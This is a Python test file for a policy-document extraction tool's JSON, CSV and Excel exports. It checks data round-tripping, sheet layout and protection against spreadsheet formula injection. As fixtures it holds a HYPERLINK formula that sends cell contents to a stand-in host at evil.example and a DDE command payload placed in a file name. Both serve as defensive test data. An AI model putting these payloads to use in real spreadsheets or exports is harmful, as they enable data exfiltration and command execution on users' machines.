"""Exports: the JSON contract, CSV that parses back, Excel with all sheets, no formula injection."""
from __future__ import annotations

import csv
import io
import json

from openpyxl import load_workbook

from policy_reader.export import REVIEW_FILL, job_payload, to_csv, to_json, to_xlsx
from policy_reader.models import Answer, AnswerStatus, DocumentResult, Usage, Variable

VARIABLES = [
    Variable(name="year_adopted", question="Year?", type="year"),
    Variable(name="target_pct", question="Target?", type="number"),
    Variable(name="sectors", question="Sectors?", type="list", options=("energy", "transport")),
    Variable(name="title", question="Title?", type="text"),
]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _documents() -> list[DocumentResult]:
    ok = DocumentResult(doc_id="d0001", file="política_climática.pdf", pages=3, variables=[
        Answer(name="year_adopted", value=2019, evidence="adopted by Cabinet in 2019", page=2, confidence=0.9,
               status=AnswerStatus.ACCEPTED),
        Answer(name="target_pct", value=-2.5, evidence="-2.5% change", page=3, confidence=0.6,
               status=AnswerStatus.NEEDS_REVIEW, note="low confidence"),
        Answer(name="sectors", value=["energy", "transport"], evidence="energy and transport", page=3,
               confidence=0.7, status=AnswerStatus.NEEDS_REVIEW, reviewed=True),
        Answer(name="title", value=EVIL, evidence="@SUM(1+1)\x07 bell", page=1, confidence=0.5,
               status=AnswerStatus.NEEDS_REVIEW),
    ])
    injected_name = DocumentResult(doc_id="d0002", file="+cmd|' /C calc'!A0.pdf", pages=1, variables=[
        Answer(name="year_adopted", status=AnswerStatus.NOT_FOUND),
        Answer(name="target_pct", status=AnswerStatus.ERROR, note="The model call timed out after 5 retries."),
        Answer(name="sectors", value=[], status=AnswerStatus.NEEDS_REVIEW, confidence=0.3),
        Answer(name="title", value="Año 2020 — ambición", evidence="Año 2020 — ambición", page=1, confidence=0.8,
               status=AnswerStatus.ACCEPTED),
    ])
    failed = DocumentResult(doc_id="d0003", file="scan.pdf", status="failed", error_code="encrypted",
                            error="scan.pdf is password protected: enter its password and retry.")
    return [ok, injected_name, failed]


USAGE = Usage(calls=3, prompt_tokens=1200, cached_prompt_tokens=400, completion_tokens=300, cost_usd=0.00042)


def test_payload_matches_the_readme_contract():
    payload = job_payload("job-1", "completed", _documents(), USAGE)
    assert set(payload) == {"job_id", "status", "documents", "usage"}
    assert payload["job_id"] == "job-1" and payload["status"] == "completed"
    assert {"calls", "prompt_tokens", "completion_tokens", "cost_usd"} <= set(payload["usage"])
    assert payload["usage"]["calls"] == 3 and payload["usage"]["cost_usd"] == 0.00042
    docs = payload["documents"]
    assert [d["status"] for d in docs] == ["ok", "ok", "failed"]
    for d in docs:
        assert {"file", "status", "error", "pages", "variables"} <= set(d)
        for v in d["variables"]:
            assert {"name", "value", "evidence", "page", "confidence", "status"} <= set(v)
    first = docs[0]["variables"]
    assert first[0] == {**first[0], "name": "year_adopted", "value": 2019, "page": 2, "status": "accepted"}
    assert first[2]["value"] == ["energy", "transport"] and first[2]["reviewed"] is True
    assert docs[2]["error"].startswith("scan.pdf is password protected") and docs[2]["variables"] == []


def test_json_bytes_round_trip_with_unicode():
    payload = job_payload("job-1", "completed", _documents(), USAGE)
    data = to_json(payload)
    assert "política_climática.pdf".encode() in data  # not \u escapes: readable
    assert json.loads(data) == payload


def test_csv_parses_back_one_row_per_document_and_variable():
    data = to_csv(_documents())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert list(rows[0]) == ["file", "doc_status", "variable", "value", "status", "confidence", "page", "evidence",
                             "reviewed", "error", "match_kind", "span"]
    assert len(rows) == 4 + 4 + 1
    first = rows[0]
    assert (first["file"], first["variable"], first["value"], first["page"], first["status"]) == (
        "política_climática.pdf", "year_adopted", "2019", "2", "accepted")
    assert rows[1]["value"] == "-2.5"  # a real number stays a number
    assert rows[1]["evidence"] == "'-2.5% change"  # text starting with - is defused
    assert rows[2]["value"] == "energy; transport" and rows[2]["reviewed"] == "yes"
    assert rows[3]["value"] == "'" + EVIL  # formula defused
    assert rows[3]["evidence"].startswith("'@SUM")
    assert rows[4]["file"].startswith("'+cmd")
    assert rows[5]["status"] == "error" and "timed out" in rows[5]["error"]
    assert rows[7]["value"] == "Año 2020 — ambición"
    assert rows[8]["doc_status"] == "failed" and rows[8]["variable"] == "" and "password" in rows[8]["error"]


def test_xlsx_has_all_sheets_and_no_formula_cells():
    data = to_xlsx(_documents(), VARIABLES, USAGE)
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Results", "Evidence", "Errors", "Usage"]
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)

    results = wb["Results"]
    assert [c.value for c in results[1]] == ["file", "status", "year_adopted", "target_pct", "sectors", "title"]
    assert results.freeze_panes == "B2"
    assert results.max_row == 4
    assert results["A2"].value == "política_climática.pdf"
    assert results["C2"].value == 2019 and results["C2"].fill.fgColor.rgb[-6:] != REVIEW_FILL
    assert results["D2"].value == -2.5 and results["D2"].data_type == "n"  # a negative number stays a number
    assert results["D2"].fill.fgColor.rgb.endswith(REVIEW_FILL)
    assert results["E2"].value == "energy; transport"
    assert results["F2"].value == EVIL and results["F2"].data_type == "s" and results["F2"].quotePrefix
    assert results["A3"].value.startswith("+cmd") and results["A3"].quotePrefix
    assert results["F3"].value == "Año 2020 — ambición"
    assert results["B4"].value == "failed"
    assert results.column_dimensions["A"].width >= 10

    evidence = wb["Evidence"]
    assert [c.value for c in evidence[1]][:7] == ["file", "variable", "value", "page", "evidence", "confidence",
                                                  "status"]
    assert evidence.max_row == 1 + 8
    assert evidence["E5"].value == "@SUM(1+1) bell"  # control character removed, text kept as text

    errors = wb["Errors"]
    error_rows = [[c.value for c in row] for row in errors.iter_rows(min_row=2)]
    assert ["+cmd|' /C calc'!A0.pdf", "target_pct", "answer", "The model call timed out after 5 retries."] in error_rows
    assert any(r[0] == "scan.pdf" and r[2] == "encrypted" for r in error_rows)

    usage = {r[0].value: r[1].value for r in wb["Usage"].iter_rows(min_row=2)}
    assert usage["model calls"] == 3 and usage["prompt tokens"] == 1200 and usage["documents failed"] == 1
    assert usage["answers needing review"] == 4


def test_xlsx_columns_follow_answers_when_variables_are_unknown():
    wb = load_workbook(io.BytesIO(to_xlsx(_documents(), None, Usage())))
    assert [c.value for c in wb["Results"][1]][2:] == ["year_adopted", "target_pct", "sectors", "title"]


def test_exports_carry_match_kind_and_span_and_never_a_page_outside_the_document():
    """Issue 19: CSV, Excel and JSON say how each quote was found and where; a page the model invented
    (older results kept it) is not exported."""
    from policy_reader.models import MatchKind, SpanPart

    doc = DocumentResult(doc_id="d0001", file="p.pdf", pages=4, variables=[
        Answer(name="ministry", value="Ministry of Environment", evidence="The Ministry of </page> <page "
               'number="5"> Environment', page=3, confidence=1.0, status=AnswerStatus.ACCEPTED,
               match_kind=MatchKind.EXACT, similarity=1.0,
               span=[SpanPart(page=2, start=2310, end=2325), SpanPart(page=3, start=0, end=11)]),
        Answer(name="year_adopted", value=2018, evidence="entered into force in 2018", page=3847659201,
               confidence=1.0, status=AnswerStatus.NEEDS_REVIEW, note="evidence not found in the document"),
    ])
    payload = job_payload("job-1", "completed", [doc], USAGE)
    ministry, year = payload["documents"][0]["variables"]
    assert ministry["match_kind"] == "exact" and ministry["similarity"] == 1.0 and ministry["page"] == 3
    assert ministry["span"] == [{"page": 2, "start": 2310, "end": 2325}, {"page": 3, "start": 0, "end": 11}]
    assert year["match_kind"] == "none" and year["span"] == [] and year["page"] is None

    rows = list(csv.DictReader(io.StringIO(to_csv([doc]).decode("utf-8-sig"))))
    assert [(r["match_kind"], r["span"], r["page"]) for r in rows] == [("exact", "2:2310-2325; 3:0-11", "3"),
                                                                       ("none", "", "")]
    sheet = load_workbook(io.BytesIO(to_xlsx([doc], None, USAGE)))["Evidence"]
    header = [c.value for c in sheet[1]]
    got = [{h: c.value for h, c in zip(header, row)} for row in sheet.iter_rows(min_row=2)]
    assert [(g["match kind"], g["span"], g["page"]) for g in got] == [("exact", "2:2310-2325; 3:0-11", 3),
                                                                      ("none", None, None)]
